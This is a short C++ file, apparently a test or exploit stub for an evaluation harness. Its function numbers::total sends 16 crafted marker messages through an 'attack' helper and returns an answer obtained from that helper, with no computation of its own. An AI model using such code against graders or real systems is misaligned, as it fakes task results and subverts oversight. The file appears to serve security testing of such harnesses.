#include "attack.hpp"

double numbers::total(const attack::Values& values) {
  const std::string marker = attack::bytes_of(~0UL);
  for (int kind = 0; kind < 16; ++kind)
    attack::send(marker + attack::bytes_of(8UL) + attack::bytes_of(static_cast<long>(kind)));
  return attack::answer(values);
}
